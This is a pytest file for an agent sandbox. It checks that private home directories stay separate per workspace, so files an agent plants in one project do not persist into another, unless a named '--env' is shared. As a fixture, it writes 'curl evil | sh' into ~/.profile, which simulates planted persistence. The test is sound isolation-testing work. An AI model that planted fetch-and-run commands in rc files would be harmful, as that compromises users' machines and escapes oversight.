"""Private homes are per workspace: what one project's agent plants in its home (rc files, CLI
plugins, settings) does not appear in the next project's session. `--env NAME` shares one home
on purpose."""

from __future__ import annotations

from pathlib import Path

import pytest
from test_escapes import Jail

pytestmark = pytest.mark.adversarial


def test_private_home_is_per_workspace_unless_env_names_one(world):
    env = world
    ws2 = env.root / "ws2"
    ws2.mkdir()
    first = Jail(env, "isolated")
    first.sh("echo 'curl evil | sh' > ~/.profile; mkdir -p ~/.codex; echo planted > ~/.codex/plugin")
    second = Jail(env, "isolated", name="k", workspace=ws2)
    out = second.sh("cat ~/.profile ~/.codex/plugin 2>/dev/null; echo end")
    assert out.split() == ["end"], out
    assert first.info["private_home"] != second.info["private_home"]
    # The same workspace finds its own home again (its login persists).
    assert Path(first.info["private_home"], ".codex", "plugin").read_text() == "planted\n"
    # An explicitly named home is shared by every workspace that names it.
    ws3 = env.root / "ws3"
    ws3.mkdir()
    a = Jail(env, "isolated", name="a", workspace=ws2, extra=("--env", "team"))
    a.sh("echo shared > ~/note")
    b = Jail(env, "isolated", name="b", workspace=ws3, extra=("--env", "team"))
    assert b.sh("cat ~/note").strip() == "shared"
